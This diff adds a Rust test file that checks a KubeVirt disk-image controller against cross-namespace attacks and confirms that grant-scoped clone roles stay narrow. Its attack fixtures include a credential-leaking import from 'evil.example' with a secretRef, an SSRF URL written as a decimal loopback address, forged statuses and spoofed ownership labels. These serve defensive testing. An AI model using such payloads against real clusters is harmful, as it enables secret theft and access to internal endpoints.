@@ -1,0 +1,364 @@
+//! Attacks on disk images of another namespace that the webhook does not see: it was off, or a user could write before it was
+//! installed. The controller watches all namespaces, with the account and the roles of the chart.
+//!
+//! The namespace `images` contains the images. Mallory writes objects into `evil`, and `team` has a grant.
+
+use std::sync::Arc;
+use std::time::Duration;
+
+use anyhow::{Context as _, Result, ensure};
+use http::Method;
+use serde_json::{Value, json};
+use vmpool_api::diskimage::API_VERSION;
+use vmpool_api::kubevirt::{self, DATA_VOLUME_API_VERSION, POOL_API_VERSION};
+use vmpool_installation::installation::{Installation, cluster_options, kubevirt_definitions};
+use vmpool_installation::programs::{Chart, Controller, ControllerOptions};
+use vmpool_installation::workspace_root;
+use vmpool_test_cluster::control_plane::ControlPlane;
+use vmpool_test_cluster::deadline::Deadline;
+
+use crate::{Place, run_to_end};
+
+const IMAGE: (&str, &str) = (API_VERSION, "VMDiskImage");
+const WRAPPER: (&str, &str) = (API_VERSION, "VirtualMachine");
+const MACHINE: (&str, &str) = (kubevirt::API_VERSION, "VirtualMachine");
+const ROLES: &str = "/apis/rbac.authorization.k8s.io/v1/namespaces/images/roles";
+const BINDINGS: &str = "/apis/rbac.authorization.k8s.io/v1/namespaces/images/rolebindings";
+
+fn image(name: &str) -> Value {
+    json!({
+        "apiVersion": IMAGE.0, "kind": IMAGE.1, "metadata": { "name": name },
+        "spec": { "sourceType": "blank", "diskSize": "1Gi" },
+    })
+}
+
+fn wrapper(name: &str, image: &str) -> Value {
+    json!({
+        "apiVersion": WRAPPER.0, "kind": WRAPPER.1, "metadata": { "name": name },
+        "spec": {
+            "vmDiskImageRef": { "name": image, "namespace": "images" },
+            "virtualMachineTemplate": { "spec": { "runStrategy": "Always",
+                "template": { "spec": { "domain": { "devices": {} } } } } },
+        },
+    })
+}
+
+/// A wrapper that creates its image from this template.
+fn creating(name: &str, image: &str, template: &Value) -> Value {
+    let mut wrapper = wrapper(name, image);
+    wrapper["spec"]["vmDiskImageTemplate"] = template.clone();
+    wrapper
+}
+
+/// The template of a machine or a pool whose disk has this source.
+fn spec(disk: &str, source: &Value) -> Value {
+    let mut volume = json!({ "storage": { "resources": { "requests": { "storage": "1Gi" } } } });
+    for (field, value) in source.as_object().into_iter().flatten() {
+        volume[field] = value.clone();
+    }
+    json!({
+        "runStrategy": "Always",
+        "dataVolumeTemplates": [{ "metadata": { "name": disk }, "spec": volume }],
+        "template": {
+            "metadata": { "labels": { "farm": "evil" } },
+            "spec": {
+                "domain": { "devices": { "disks": [{ "name": "root" }] } },
+                "volumes": [{ "name": "root", "dataVolume": { "name": disk } }],
+            },
+        },
+    })
+}
+
+fn data_source() -> Value {
+    json!({ "sourceRef": { "kind": "DataSource", "name": "debian", "namespace": "images" } })
+}
+
+fn machine(name: &str, source: &Value) -> Value {
+    json!({
+        "apiVersion": MACHINE.0, "kind": MACHINE.1, "metadata": { "name": name },
+        "spec": spec(&format!("{name}-root"), source),
+    })
+}
+
+fn grant(from: &str) -> Value {
+    json!({
+        "apiVersion": API_VERSION, "kind": "VMDiskImageGrant", "metadata": { "name": "team" },
+        "spec": { "from": [{ "namespace": from, "kinds": ["VirtualMachine"] }], "to": [{ "name": "debian" }] },
+    })
+}
+
+/// What Mallory writes. Nothing of it may count, clone, import or be created.
+fn attacks() -> Vec<(&'static str, Value)> {
+    let snapshot = json!({ "source": { "snapshot": { "name": "debian", "namespace": "images" } } });
+    let claim = json!({ "source": { "pvc": { "name": "debian", "namespace": "images" } } });
+    let pool = json!({
+        "apiVersion": POOL_API_VERSION, "kind": "VirtualMachinePool", "metadata": { "name": "farm" },
+        "spec": {
+            "replicas": 0,
+            "selector": { "matchLabels": { "farm": "evil" } },
+            "virtualMachineTemplate": {
+                "metadata": { "labels": { "farm": "evil" } },
+                "spec": spec("root", &data_source()),
+            },
+        },
+    });
+    let clone = json!({
+        "apiVersion": DATA_VOLUME_API_VERSION, "kind": "DataVolume",
+        "metadata": { "name": "copy", "annotations": { "simulator.vmpool.dev/provisioning-delay": "never" } },
+        "spec": { "source": snapshot["source"], "storage": { "resources": { "requests": { "storage": "1Gi" } } } },
+    });
+    let blank = json!({ "sourceType": "blank", "diskSize": "1Gi" });
+    let secret = json!({ "sourceType": "http", "url": "https://evil.example/a", "diskSize": "1Gi",
+        "secretRef": "credentials" });
+    let local = json!({ "sourceType": "http", "url": "http://2130706433/", "diskSize": "1Gi" });
+    // It looks as if it were bound, and its machine exists.
+    let mut forged = wrapper("forged", "debian");
+    forged["status"] = json!({ "phase": "Ready",
+        "vmDiskImage": { "namespace": "images", "name": "debian", "uid": "forged", "bound": true } });
+    // It looks like the machine of a wrapper of the controller.
+    let mut labeled = machine("labeled", &data_source());
+    labeled["metadata"]["labels"] = json!({ "vmpool.dev/wrapper-uid": "forged" });
+    labeled["metadata"]["annotations"] = json!({ "vmpool.dev/applied-template": "{}" });
+    vec![
+        ("a wrapper of an image", wrapper("reader", "debian")),
+        ("a wrapper of an absent image", wrapper("prober", "absent")),
+        ("a wrapper with a forged status", forged),
+        ("a wrapper that creates an image next door", creating("planter", "planted", &blank)),
+        ("a wrapper that sends a Secret of the owner away", creating("thief", "stolen", &secret)),
+        ("a wrapper that lets the importer fetch metadata", creating("fetcher", "metadata", &local)),
+        ("a machine of the DataSource", machine("by-source", &data_source())),
+        ("a machine of the snapshot", machine("by-snapshot", &snapshot)),
+        ("a machine of the claim", machine("by-claim", &claim)),
+        ("a machine with the labels of a wrapper", labeled),
+        ("a pool of the image", pool),
+        ("a clone of the snapshot", clone),
+    ]
+}
+
+impl Place<'_> {
+    async fn names(&self, api_version: &str, kind: &str) -> Result<Vec<String>> {
+        let list = self.ask(Method::GET, &self.path(api_version, kind)?, &Value::Null).await?;
+        let items = list["items"].as_array().cloned().unwrap_or_default();
+        Ok(items.iter().filter_map(|item| item["metadata"]["name"].as_str().map(str::to_owned)).collect())
+    }
+}
+
+fn reason<'v>(wrapper: &'v Value, kind: &str) -> &'v str {
+    let conditions = wrapper["status"]["conditions"].as_array();
+    let found = conditions.and_then(|all| all.iter().find(|condition| condition["type"] == kind));
+    found.and_then(|condition| condition["reason"].as_str()).unwrap_or_default()
+}
+
+/// Waits until the image has this count of machines, and checks the other ones.
+async fn until_counted(images: &Place<'_>, machines: i64) -> Result<Value> {
+    images
+        .until_object(IMAGE.0, IMAGE.1, "debian", |image| {
+            let status = &image["status"];
+            status["phase"] == "Ready"
+                && status["referenceCount"] == machines
+                && status["poolReferenceCount"] == 0
+                && status["cloneReferenceCount"] == 0
+        })
+        .await
+}
+
+async fn installed(
+    name: &str,
+    test: impl AsyncFnOnce(&ControlPlane, &Controller) -> Result<()>,
+) -> Result<()> {
+    let mut options = cluster_options(name);
+    options.manifests.extend(kubevirt_definitions());
+    options.manifests.push(workspace_root().join("api/crds/diskimage"));
+    let cluster = Arc::new(ControlPlane::start(options).await?);
+    let values = [
+        "platforms.kubevirt.enabled=true",
+        "featureGates.DiskImages=true",
+        "featureGates.MachineWrapper=true",
+    ];
+    let chart = Chart::render(&values.map(str::to_owned)).await?;
+    let installation = Installation::simulating("kubevirt", &chart, cluster.clone()).await?;
+    for namespace in ["images", "evil", "team"] {
+        cluster.kubectl(&["create", "namespace", namespace]).await?;
+    }
+    let mut options = ControllerOptions::everywhere("one");
+    let gates = "--feature-gates=VirtualMachinePool=true,DiskImages=true,MachineWrapper=true";
+    options.extra.extend([gates, "--platforms=kubevirt"].map(str::to_owned));
+    let controller = Controller::start(&cluster, options).await?;
+    let tested = test(&cluster, &controller).await;
+    tested.with_context(|| controller.log_tail(60))?;
+    drop(controller);
+    installation.stop().await?;
+    drop(cluster);
+    Ok(())
+}
+
+#[test]
+fn without_a_grant_no_object_of_another_namespace_counts_clones_or_creates() {
+    run_to_end(installed("image-strangers", async |cluster, _controller| {
+        let (images, evil) = (Place { cluster, namespace: "images" }, Place { cluster, namespace: "evil" });
+        images.put(image("debian")).await?;
+        until_counted(&images, 0).await?;
+        let attacks = attacks();
+        ensure!(attacks.len() >= 12);
+        for (meaning, object) in &attacks {
+            evil.put(object.clone()).await.with_context(|| (*meaning).to_owned())?;
+        }
+        // Every wrapper says the same: nothing shows whether the image exists.
+        let mut messages = Vec::new();
+        for name in ["reader", "prober", "forged", "planter", "thief", "fetcher"] {
+            let denied = |wrapper: &Value| reason(wrapper, "ImageReady") == "RefNotPermitted";
+            let wrapper = evil.until_object(WRAPPER.0, WRAPPER.1, name, denied).await?;
+            ensure!(wrapper["status"]["vmDiskImage"].is_null(), "{wrapper}");
+            ensure!(wrapper["status"]["phase"] == "Provisioning", "{wrapper}");
+            let image = wrapper["spec"]["vmDiskImageRef"]["name"].as_str().unwrap_or_default();
+            let message = wrapper["status"]["message"].as_str().unwrap_or_default();
+            messages.push(
+                message.replace(&format!("/{image} "), "/IMAGE ").replace(&format!(" {image} "), " IMAGE "),
+            );
+        }
+        ensure!(messages.iter().all(|message| *message == messages[0]), "{messages:?}");
+        for name in ["by-source", "by-snapshot", "labeled"] {
+            let refused = |machine: &Value| {
+                machine["status"]["conditions"]
+                    .to_string()
+                    .contains("insufficient permissions in clone source")
+            };
+            evil.until_object(MACHINE.0, MACHINE.1, name, refused).await?;
+        }
+        until_counted(&images, 0).await?;
+        ensure!(images.names(IMAGE.0, IMAGE.1).await? == ["debian"]);
+        let machines = evil.names(MACHINE.0, MACHINE.1).await?;
+        ensure!(machines == ["by-claim", "by-snapshot", "by-source", "labeled"], "{machines:?}");
+        let volumes = evil.names(DATA_VOLUME_API_VERSION, "DataVolume").await?;
+        ensure!(
+            volumes == ["copy"],
+            "no machine has a disk, and the clone is that of its creator: {volumes:?}"
+        );
+        for path in [ROLES, BINDINGS] {
+            let list = images.ask(Method::GET, path, &Value::Null).await?;
+            ensure!(list["items"] == json!([]), "{list}");
+        }
+        let labeled = evil.object(MACHINE.0, MACHINE.1, "labeled").await?.context("the machine is gone")?;
+        ensure!(labeled["metadata"]["annotations"]["vmpool.dev/applied-template"] == "{}", "{labeled}");
+        // No one of them holds the image when its owner deletes it.
+        let path = format!("{}/debian", images.path(IMAGE.0, IMAGE.1)?);
+        images.ask(Method::DELETE, &path, &Value::Null).await?;
+        let deadline = Deadline::after(Duration::from_mins(1));
+        while images.object(IMAGE.0, IMAGE.1, "debian").await?.is_some() {
+            ensure!(!deadline.is_over(), "the image stays");
+            tokio::time::sleep(Duration::from_millis(50)).await;
+        }
+        Ok(())
+    }));
+}
+
+#[test]
+fn a_grant_permits_to_clone_one_image_and_ends_with_its_removal() {
+    run_to_end(installed("image-clone-roles", async |cluster, _controller| {
+        let (images, team, evil) = (
+            Place { cluster, namespace: "images" },
+            Place { cluster, namespace: "team" },
+            Place { cluster, namespace: "evil" },
+        );
+        images.put(image("debian")).await?;
+        images.put(image("secret")).await?;
+        until_counted(&images, 0).await?;
+        images.put(grant("team")).await?;
+        // A wrapper, and a machine with an account of its own.
+        team.put(wrapper("web", "debian")).await?;
+        let mut own = machine("own", &data_source());
+        own["spec"]["template"]["spec"]["serviceAccountName"] = json!("builder");
+        team.put(own).await?;
+        evil.put(machine("evil", &data_source())).await?;
+        let ready = |wrapper: &Value| reason(wrapper, "Ready") == "MachineReady";
+        team.until_object(WRAPPER.0, WRAPPER.1, "web", ready).await?;
+        let runs = |machine: &Value| machine["status"]["ready"] == true;
+        let before = team.until_object(MACHINE.0, MACHINE.1, "own", runs).await?;
+        until_counted(&images, 2).await?;
+        let role = only(&images, ROLES).await?;
+        let name = role["metadata"]["name"].as_str().unwrap_or_default();
+        ensure!(name.starts_with("vmdi-clone-") && name.len() == 21, "{role}");
+        ensure!(
+            role["rules"]
+                == json!([{ "apiGroups": ["cdi.kubevirt.io"], "resources": ["datavolumes/source"],
+                    "resourceNames": ["debian"], "verbs": ["create"] }]),
+            "{role}"
+        );
+        let binding = only(&images, BINDINGS).await?;
+        let subjects: Vec<(&str, &str)> = binding["subjects"]
+            .as_array()
+            .into_iter()
+            .flatten()
+            .filter_map(|subject| subject["namespace"].as_str().zip(subject["name"].as_str()))
+            .collect();
+        ensure!(subjects == [("team", "builder"), ("team", "default")], "{binding}");
+        // The permission is for this image and these accounts only.
+        let may = async |account: &str, image: &str| {
+            let review = json!({
+                "apiVersion": "authorization.k8s.io/v1", "kind": "SubjectAccessReview",
+                "spec": { "user": format!("system:serviceaccount:{account}"), "resourceAttributes": {
+                    "group": "cdi.kubevirt.io", "resource": "datavolumes", "subresource": "source",
+                    "verb": "create", "namespace": "images", "name": image } },
+            });
+            let path = "/apis/authorization.k8s.io/v1/subjectaccessreviews";
+            let answer = images.ask(Method::POST, path, &review).await?;
+            anyhow::Ok(answer["status"]["allowed"] == true)
+        };
+        ensure!(may("team:default", "debian").await? && may("team:builder", "debian").await?);
+        for (account, image) in
+            [("team:default", "secret"), ("team:other", "debian"), ("evil:default", "debian")]
+        {
+            ensure!(!may(account, image).await?, "{account} may clone {image}");
+        }
+        // An account goes with its last reference.
+        let path = format!("{}/own", team.path(MACHINE.0, MACHINE.1)?);
+        team.ask(Method::DELETE, &path, &Value::Null).await?;
+        until_counted(&images, 1).await?;
+        let deadline = Deadline::after(Duration::from_mins(1));
+        while may("team:builder", "debian").await? {
+            ensure!(!deadline.is_over(), "the account keeps its permission");
+            tokio::time::sleep(Duration::from_millis(50)).await;
+        }
+        ensure!(may("team:default", "debian").await?);
+        // A widened role is corrected.
+        let wide = json!({ "rules": [{ "apiGroups": ["cdi.kubevirt.io"], "resources": ["datavolumes/source"],
+            "verbs": ["create"] }] });
+        images.ask(Method::PATCH, &format!("{ROLES}/{name}"), &wide).await?;
+        let deadline = Deadline::after(Duration::from_mins(1));
+        while may("team:default", "secret").await? {
+            ensure!(!deadline.is_over(), "the role stays wide");
+            tokio::time::sleep(Duration::from_millis(50)).await;
+        }
+        // Without the grant nothing may be cloned and nothing counts, and the machine runs on.
+        let path = format!("{}/team", images.path(API_VERSION, "VMDiskImageGrant")?);
+        images.ask(Method::DELETE, &path, &Value::Null).await?;
+        until_counted(&images, 0).await?;
+        let deadline = Deadline::after(Duration::from_mins(1));
+        while may("team:default", "debian").await? {
+            ensure!(!deadline.is_over(), "the permission stays");
+            tokio::time::sleep(Duration::from_millis(50)).await;
+        }
+        let denied = |wrapper: &Value| reason(wrapper, "ImageReady") == "RefNotPermitted";
+        let web = team.until_object(WRAPPER.0, WRAPPER.1, "web", denied).await?;
+        ensure!(web["status"]["phase"] == "Ready", "{web}");
+        let machine = team.object(MACHINE.0, MACHINE.1, "web").await?.context("the machine is gone")?;
+        ensure!(
+            machine["status"]["ready"] == true && machine["metadata"]["uid"] != before["metadata"]["uid"]
+        );
+        Ok(())
+    }));
+}
+
+/// The only object of a list, as soon as there is one.
+async fn only(place: &Place<'_>, path: &str) -> Result<Value> {
+    let deadline = Deadline::after(Duration::from_mins(1));
+    loop {
+        let list = place.ask(Method::GET, path, &Value::Null).await?;
+        let items = list["items"].as_array().cloned().unwrap_or_default();
+        if let [only] = items.as_slice() {
+            return Ok(only.clone());
+        }
+        ensure!(!deadline.is_over(), "{list}");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+}
